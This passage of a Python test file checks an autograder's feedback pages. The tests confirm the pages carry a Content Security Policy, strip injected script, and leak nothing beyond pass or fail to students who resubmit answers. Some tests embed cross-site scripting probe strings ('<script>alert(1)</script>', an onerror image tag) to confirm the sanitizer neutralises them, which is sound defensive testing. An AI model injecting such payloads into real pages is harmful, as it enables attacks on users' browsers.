                assert form not in round_["page"] and form not in round_["grades"], form


@needs_sandbox
def test_resubmitting_constants_learns_nothing_beyond_pass_fail(rounds):
    assert rounds["learned"] == {}
    masked = {_mask(_hidden_failure(r["page"])) for r in rounds["history"]}
    assert len(masked) == 1, masked
    scores = [float(r["row"]["score"]) for r in rounds["history"]]
    assert scores == [scores[0]] * len(scores)


@needs_sandbox
@pytest.mark.skipif(shutil.which("chromium") is None and shutil.which("chromium-browser") is None,
                    reason="no headless Chromium here")
def test_no_script_runs_in_a_browser(rounds, tmp_path):
    import subprocess
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    page = rounds["out"] / "feedback" / f"{rounds['results']['xss'].sid}.html"
    dom = subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom",
                          page.as_uri()], capture_output=True, text=True, timeout=120).stdout
    title = re.search(r"<title>(.*?)</title>", dom, re.S)
    assert title and title.group(1).strip() == "c1w2a1_numpy_basics", title


def test_only_a_page_that_opens_with_the_policy_counts_as_hardened():
    """grading._feedback trusts the worker's page without hardening it again only when it opens
    with the policy; a page with the policy anywhere else (a student's markdown) is not trusted."""
    from autograder.sanitize import CSP_META, is_hardened
    page = ("<!DOCTYPE html><html><head><meta charset='utf-8'></head><body><p>x</p>"
            "<script>alert(1)</script></body></html>")
    assert not is_hardened(page)
    assert not is_hardened(page.replace("<p>x</p>", "<head>" + CSP_META))
    assert is_hardened(harden_page(page))


def test_feedback_without_the_policy_is_hardened_by_the_grader(tmp_path):
    """A feedback page that the worker did not harden (its exporter was not used) is hardened
    when the grader writes the student's final page."""
    from types import SimpleNamespace
    from autograder import grading
    sid, aid, stem = "s1", "c1w2a1_numpy_basics", "c1w2a1_numpy_basics"
    made = tmp_path / "work" / "feedback" / sid / aid / f"{stem}.html"
    made.parent.mkdir(parents=True)
    made.write_text("<html><head></head><body><p>kept</p><img src=x onerror=alert(1)></body></html>")
    result = SimpleNamespace(workdir=tmp_path / "work", sid=sid, student=sid, graded=True, notes=[])
    a = SimpleNamespace(id=aid, notebook=Path(f"{stem}.ipynb"))
    (tmp_path / "out").mkdir()
    page = grading._feedback(tmp_path / "out", result, a).read_text()
    assert csp_first_in_head(page) and "<p>kept</p>" in page and "onerror" not in page
